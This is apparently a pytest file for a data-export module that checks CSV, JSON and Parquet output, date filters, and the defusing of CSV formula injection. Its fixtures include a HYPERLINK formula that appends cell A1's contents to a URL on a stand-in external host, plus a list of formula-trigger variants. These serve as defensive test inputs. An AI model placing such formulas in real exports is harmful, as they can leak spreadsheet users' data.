"""What the files of exports look like: three formats, the same rows, and nothing that a spreadsheet would compute."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from typing import Any

import pyarrow.parquet as pq  # type: ignore[import-untyped]  # it has no types
import pytest
from hypothesis import given
from hypothesis import strategies as st

from conveyor_apps.concierge.errors import FieldError
from conveyor_apps.concierge.exports import check_filters
from conveyor_apps.concierge.exports.columns import Column, Kind, Moments, Row, read_moment
from conveyor_apps.concierge.exports.csv_text import defuse, restore
from conveyor_apps.concierge.exports.files import encoder_of
from conveyor_apps.concierge.words import Format

COLUMNS = (Column("number", Kind.NUMBER), Column("name", Kind.TEXT), Column("at", Kind.MOMENT))
ROWS: list[Row] = [
    (1, "Mia", 1_760_000_000_123),
    (-2, '=HYPERLINK("http://far.example.com/?"&A1)', None),
    (3, 'quotes ", commas, and\nlines', 0),
    (None, None, 1),
]
DAY_MS = 86_400_000


def written(format: Format, pages: Sequence[Sequence[Row]]) -> bytes:
    encoder = encoder_of(format, COLUMNS)
    return encoder.begin() + b"".join(encoder.add(page) for page in pages) + encoder.end()


def test_csv_holds_every_row_and_no_formula() -> None:
    text = written(Format.CSV, [ROWS[:2], ROWS[2:]]).decode()
    assert text.startswith("number,name,at\r\n1,Mia,2025-10-09T08:53:20.123Z\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [row[0] for row in rows] == ["1", "-2", "3", ""]  # a number of ours is one, whatever its sign
    assert rows[1][1] == "'" + str(ROWS[1][1])
    assert [restore(row[1]) or None for row in rows] == [row[1] for row in ROWS]


def test_json_is_one_array_and_one_row_a_line() -> None:
    text = written(Format.JSON, [ROWS[:2], ROWS[2:]]).decode()
    assert [row["name"] for row in json.loads(text)] == [row[1] for row in ROWS]
    assert json.loads(text)[3] == {"number": None, "name": None, "at": "1970-01-01T00:00:00.001Z"}
    assert len(text.splitlines()) == len(ROWS) + 2
    assert json.loads(written(Format.JSON, [])) == []


def test_parquet_has_types_and_row_groups(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("conveyor_apps.concierge.exports.parquet.GROUP_ROWS", 3)
    found = pq.ParquetFile(io.BytesIO(written(Format.PARQUET, [ROWS[:2], ROWS[2:], ROWS[:1]])))
    assert found.num_row_groups == 2
    assert [str(field.type) for field in found.schema_arrow] == ["int64", "string", "timestamp[ms, tz=UTC]"]
    rows: list[dict[str, Any]] = found.read().to_pylist()
    assert [row["name"] for row in rows] == [row[1] for row in [*ROWS, ROWS[0]]]
    assert rows[0]["at"].isoformat(timespec="milliseconds") == "2025-10-09T08:53:20.123+00:00"


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+49170", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n-1", "\x00=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A", "\u200b=1", "'=1", "\ufeff=1"],
)  # fmt: skip
def test_what_a_spreadsheet_would_compute_gets_an_apostrophe(text: str) -> None:
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Mia", "10:30", "a=1", "(=1)", "Ärger", "1=2", "mia@example.com"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert defuse(text) == text


@given(st.text())
def test_a_program_gets_back_what_was_there(text: str) -> None:
    cell = defuse(text)
    assert restore(cell) == text
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))


@given(st.integers(0, 4_102_444_800_000))
def test_moments_are_exact(moment: int) -> None:
    assert read_moment(Moments().text(moment)) == moment


def test_a_date_that_ends_a_selection_is_a_whole_day() -> None:
    day = check_filters({"startDate": "2026-01-31", "endDate": "2026-01-31"})
    assert day.until - day.since == DAY_MS
    moment = check_filters({"endDate": "2026-01-31T12:00:00Z"})
    assert moment.until == day.since + DAY_MS // 2


@pytest.mark.parametrize(
    ("filters", "field"),
    [
        ({"startDate": "yesterday"}, "filters.startDate"),
        ({"startDate": "2026-02-01", "endDate": "2026-01-01"}, "filters.endDate"),
        ({"dataset": "audit", "state": "failed"}, "filters.state"),
        ({"kind": "fax"}, "filters.kind"),
        ({"user": ""}, "filters.user"),
        ({"state": "lost"}, "filters.state"),
        ({"state": 1}, "filters.state"),
        ({"recipient": "mia"}, "filters.recipient"),
    ],
)
def test_a_filter_that_cannot_be_is_named(filters: dict[str, Any], field: str) -> None:
    with pytest.raises(FieldError) as refused:
        check_filters(filters)
    assert refused.value.field == field
    assert not any(str(value) in str(refused.value) for value in filters.values() if value)
